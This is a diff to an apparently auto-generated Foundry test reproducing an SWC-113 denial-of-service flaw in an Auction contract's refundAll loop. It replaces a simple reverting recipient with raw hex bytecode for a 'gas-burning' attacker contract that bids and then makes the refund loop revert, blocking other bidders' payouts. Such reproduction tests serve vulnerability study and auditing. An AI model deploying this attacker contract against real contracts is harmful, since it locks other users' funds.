@@ -16,8 +16,10 @@ contract Foresight_Auction_SWC_113_Test is Test {
         vm.roll(blockNumber);
         vm.warp(timestamp);
         vm.deal(DEPLOYER, 1e6 ether);
-        vm.deal(0x0000000000000000000000000000000000030000, 1e6 ether); // user 3
         vm.deal(0x0000000000000000000000000000000000010000, 1e6 ether); // user 1
+        vm.deal(0x0000000000000000000000000000000a77aC0000, 1e6 ether); // operates the attacker contracts
+        vm.etch(0x0000000000000000000000000000000A77aC0003, hex"33321461000857fe5b60006020360380602060003760006000826000346000355af13d600060003e610030573d6000fd5b3d6000f3"); // attacker contract (gas-burning)
+        vm.deal(0x0000000000000000000000000000000A77aC0003, 1e6 ether); // its own ether, to re-enter with
         vm.prank(DEPLOYER, DEPLOYER);
         Auction auction = new Auction();
         require(address(auction) == 0xD16d38E314dadd189F03AD9012E0742fD66ab1Eb, "deployed elsewhere than in the campaign");
@@ -26,31 +28,29 @@ contract Foresight_Auction_SWC_113_Test is Test {
         bool ok;
         bytes memory ret;
 
-        // 1. from user 3: Auction.bid() {value: 1}
-        vm.prank(0x0000000000000000000000000000000000030000, 0x0000000000000000000000000000000000030000);
-        (ok, ret) = address(auction).call{value: 1}(abi.encodeCall(auction.bid, ()));
-
-        // 2. from user 1: Auction.bid() {value: 1}
+        // 1. from user 1: Auction.bid() {value: 1}
         vm.prank(0x0000000000000000000000000000000000010000, 0x0000000000000000000000000000000000010000);
         (ok, ret) = address(auction).call{value: 1}(abi.encodeCall(auction.bid, ()));
 
-        // 3. from user 3: Auction.refundAll()
+        // 2. from attacker contract (gas-burning): Auction.bid() {value: 1}
+        vm.prank(0x0000000000000000000000000000000a77aC0000, 0x0000000000000000000000000000000a77aC0000);
+        (ok, ret) = address(0x0000000000000000000000000000000A77aC0003).call{value: 1}(hex"000000000000000000000000d16d38e314dadd189f03ad9012e0742fd66ab1eb1998aeef");
+
+        // 3. from user 1: Auction.refundAll()
         // The ether of the others the loop pays, before it.
-        uint256 paid0 = address(0x0000000000000000000000000000000000030000).balance;
-        // This recipient rejects payments, as the oracle ran the call.
-        vm.etch(0x0000000000000000000000000000000000010000, hex"60006000fd");
-        vm.prank(0x0000000000000000000000000000000000030000, 0x0000000000000000000000000000000000030000);
+        uint256 paid0 = address(0x0000000000000000000000000000000000010000).balance;
+        vm.prank(0x0000000000000000000000000000000000010000, 0x0000000000000000000000000000000000010000);
         (ok, ret) = address(auction).call(abi.encodeCall(auction.refundAll, ()));
 
-        // denial of service: one failing recipient reverts a loop of payments: run again with user 1 rejecting payments, transaction 3 reverted inside the loop at its payment: one recipient blocks every other's
+        // denial of service: one failing recipient reverts a loop of payments: a recipient that rejects payments made transaction 3 revert inside the loop
         assertFalse(ok, "expected one failing recipient to revert the loop");
         // The harm: the failing recipient is what keeps the others unpaid.
         // Made to accept (its code removed), the same call pays them.
-        vm.etch(0x0000000000000000000000000000000000010000, hex"");
-        vm.prank(0x0000000000000000000000000000000000030000, 0x0000000000000000000000000000000000030000);
+        vm.etch(0x0000000000000000000000000000000A77aC0003, hex"");
+        vm.prank(0x0000000000000000000000000000000000010000, 0x0000000000000000000000000000000000010000);
         (ok, ret) = address(auction).call(abi.encodeCall(auction.refundAll, ()));
         bool paid = false;
-        if (address(0x0000000000000000000000000000000000030000).balance > paid0) paid = true;
+        if (address(0x0000000000000000000000000000000000010000).balance > paid0) paid = true;
         assertTrue(paid, "expected the loop to pay another recipient once the failing one accepts");
     }
 }
